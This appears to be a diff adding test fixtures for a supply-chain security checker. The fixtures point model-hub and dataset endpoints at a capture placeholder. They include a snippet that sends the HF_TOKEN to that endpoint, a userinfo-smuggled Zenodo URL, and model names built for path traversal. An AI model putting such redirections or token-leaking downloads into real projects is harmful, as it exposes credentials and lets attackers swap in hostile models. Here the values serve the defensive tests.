@@ -113,6 +113,44 @@ ENV = "\n".join(
     ]
 )
 
+HUB_ENV = "\n".join(
+    f"{name}=CAPTURE"
+    for name in (
+        "HF_ENDPOINT",
+        "HUGGINGFACE_CO_RESOLVE_ENDPOINT",
+        "HF_MIRROR",
+        "KAGGLE_API_ENDPOINT",
+        "MODELSCOPE_DOMAIN",
+    )
+)
+HUB_ENV += (
+    "\n" + "\n".join(f"SUPPLYCHAIN_{name}_URL=CAPTURE" for name in ("DEPSDEV", "SCORECARD", "ZENODO", "OPENML")) + "\n"
+)
+HUB_CODE = """
+import os
+os.environ["HF_ENDPOINT"] = "CAPTURE"
+import pandas
+from huggingface_hub import HfApi, hf_hub_download, snapshot_download
+hf_hub_download("evil/model", "m.bin", endpoint="CAPTURE", token=os.environ["HF_TOKEN"])
+HfApi(endpoint="CAPTURE").snapshot_download("evil/other")
+snapshot_download("CAPTURE/evil/third")
+pandas.read_csv("CAPTURE/zenodo.org/record/1/files/a.csv")
+pandas.read_csv("http://zenodo.org@HOST/record/1/files/a.csv")
+"""
+HUB_YAML = "model_name_or_path: CAPTURE/evil/fourth\nhf_endpoint: CAPTURE\n"
+HUB_NAMES = "import torch\nfrom datasets import load_dataset\nfrom transformers import AutoModel\n" + "".join(
+    f"AutoModel.from_pretrained({name!r}, revision={name!r})\nload_dataset({name!r})\ntorch.hub.load({name!r}, 'm')\n"
+    for name in (
+        *NAMES,
+        "evil/../../x",
+        "evil/x?y",
+        "evil/x#y",
+        "evil/x%2f..",
+        "evil/x/../../api/users/y",
+        "evil/x@HOST",
+    )
+)
+
 FILES: dict[str, dict[str, str]] = {
     "an index in requirements.txt": {
         "evil/requirements.txt": "--index-url CAPTURE/simple\n--extra-index-url https://${SUPPLYCHAIN_PYPI_TOKEN}@HOST/simple\n"
@@ -138,6 +176,8 @@ FILES: dict[str, dict[str, str]] = {
     "names in a manifest": {"evil/requirements.txt": "".join(f"{name}==1.0\n" for name in NAMES)},
     "names in a lock of npm": {"evil/package-lock.json": npm_lock("CAPTURE/x.tgz", *NAMES)},
     "names in a lock of Python": {f"evil{number}/uv.lock": uv_lock(name, "CAPTURE/simple", "CAPTURE/x.whl") for number, name in enumerate(NAMES)},
+    "settings and addresses of hubs": {".env": HUB_ENV, "Dockerfile.hub": "FROM scratch\nENV HF_ENDPOINT=CAPTURE HF_TOKEN=x\n", "app/evil_hub.py": HUB_CODE, "app/evil.yaml": HUB_YAML},
+    "names of models": {"app/evil_names.py": HUB_NAMES},
     "a safety policy and a pip-audit file": {".safety-policy.yml": "proxy:\n  host: HOST\n", "safety.ini": "[proxy]\nhost = HOST\n", "pip_audit.toml": 'index-url = "CAPTURE"\n'},
 }  # fmt: skip
 
